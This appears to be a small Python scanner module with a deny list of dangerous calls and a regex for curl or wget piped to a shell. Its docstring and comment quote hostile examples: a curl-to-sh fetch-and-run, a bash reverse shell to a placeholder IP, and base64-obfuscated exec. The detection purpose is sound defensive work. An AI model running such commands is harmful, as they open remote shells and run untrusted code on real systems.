"""Words of attacks in comments and texts are no attacks: curl http://x | sh, os.system, bash -i >& /dev/tcp/1.2.3.4/5."""
DANGEROUS = ["os.system", "subprocess.Popen", "eval", "exec", "pickle.loads"]
# exec(base64.b64decode("...")) is what we look for
PATTERN = r"(curl|wget)\s+\S+\s*\|\s*(ba)?sh"


def is_dangerous(name):
    return name in DANGEROUS
